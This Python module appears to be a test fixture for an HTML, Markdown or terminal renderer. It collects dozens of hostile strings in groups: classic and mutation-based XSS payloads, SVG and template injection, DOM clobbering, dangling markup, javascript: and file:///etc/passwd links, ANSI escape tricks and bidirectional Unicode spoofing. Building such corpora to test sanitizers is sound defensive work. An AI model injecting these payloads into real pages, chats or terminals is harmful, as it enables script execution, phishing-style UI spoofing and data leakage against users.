"""Texts that try to run a script, to load something, or to take over a page, by the place that would show them."""

from __future__ import annotations

BEACON = "http://127.0.0.2:9"
"""Another origin: a request to it is a failure, whether or not anything listens."""
RUN = "window.ran=1"
HTML = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", "<iframe srcdoc='<script>parent.ran=1</script>'>",
    f"<a href=javascript:{RUN}>x</a>", f"<style>@import '{BEACON}/x'</style>", f"<link rel=stylesheet href={BEACON}/x>",
    f"<object data={BEACON}/x></object>", f"<embed src={BEACON}/x>", f"</pre><script>{RUN}</script>",
    f"<form action={BEACON}><button>Allow once</button></form>", f"<base href={BEACON}/>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>", f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<body onload={RUN}>",
    f"<video src={BEACON}/v poster={BEACON}/p onerror={RUN}>",
    f"<audio src={BEACON}/a autoplay>", f"<table background={BEACON}/t>", f"<p style='background:url({BEACON}/s)'>x",
    f"<div onpointerenter={RUN} style='position:fixed;inset:0'>Allow once</div>",
    f"<button formaction=javascript:{RUN}>x",
    f"<img srcset='{BEACON}/a 1x'>", f"<iframe src=javascript:{RUN}></iframe>", f"<marquee onstart={RUN}>x</marquee>",
    "<dialog open>Allowed by owner</dialog>", f"<a href='{BEACON}' ping='{BEACON}/p' target=_self>x</a>",
    f"<script src={BEACON}/x.js></script>", f"<link rel=preload as=image href={BEACON}/x>",
    f"<portal src={BEACON}></portal>",
    f"<a href='&#106;avascript:{RUN}'>x</a>", f"<a href='java\tscript:{RUN}'>x</a>",
    "<a href='data:text/html,<script>opener.ran=1</script>'>x</a>",
)
SVG = (
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><image href={BEACON}/i /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
)
MUTATION = (
    f"<math><mi xlink:href=javascript:{RUN}>x",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<select><template><style></template></select><img src=x onerror={RUN}></style>",
    f"<textarea></textarea><img src=x onerror={RUN}>", f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<p><svg><desc></p><img src=x onerror={RUN}>",
)
DANGLING = (
    f"<img src='{BEACON}/?", f"<a href='{BEACON}/?", "<textarea><button form=x>", "<plaintext>", "<title>", "<!--",
)
ELEMENTS = (
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<x-allow onclick={RUN}>Allow once</x-allow>", "<p is=x-allow>x</p>", "<slot name=x></slot>",
)
CLOBBERING = (
    "<form id=document><input name=body></form>", "<img name=trustedTypes>", "<a id=app></a><a id=app name=x></a>",
    "<form name=attributes><input name=childNodes></form>", "<iframe name=sessionStorage></iframe>",
)
MARKDOWN = (
    f"![x]({BEACON}/x.png)", f"[x](javascript:{RUN})", f"[x]( javascript:{RUN} )", f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x]", f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})", f'[x](http://a"onmouseover={RUN}//)', f"![a]({BEACON}/'onerror={RUN}//)",
    "[x](//127.0.0.2:9/x)", f"`</code><img src=x onerror={RUN}>`", f"```\"><img src=x onerror={RUN}>\nx\n```",
    f"| <img src=x onerror={RUN}> |\n|--|\n| x |", f"[<img src=x onerror={RUN}>]({BEACON})", f"# <svg onload={RUN}>",
    "[x](/console/a/forged)", f"[x](java&#10;script:{RUN})", "[x](blob:http://localhost/x)", "[x](file:///etc/passwd)",
)
TERMINAL = (
    f"\x1b]8;;{BEACON}\x07x\x1b]8;;\x07", f"\x1b]8;;javascript:{RUN}\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[1;1HAllowed by owner",
    f"\x1b]0;<img src=x onerror={RUN}>\x07", f"\x9b31m<img src=x onerror={RUN}>", "\x1bP1$r<script>\x1b\\",
)
HIDDEN = ("\u202e gpj.exe", "a\u200bb", "\u2066x\u2069", "\ufeffx", "&#8238;x", "&zwnj;x")
TEMPLATES = (f"{{{{constructor.constructor('{RUN}')()}}}}", "{@html '<b>x'}", f"${{{RUN}}}", f"javascript:{RUN}")
HOSTILE = (*HTML, *SVG, *MUTATION, *DANGLING, *ELEMENTS, *CLOBBERING, *MARKDOWN, *TERMINAL, *HIDDEN, *TEMPLATES)
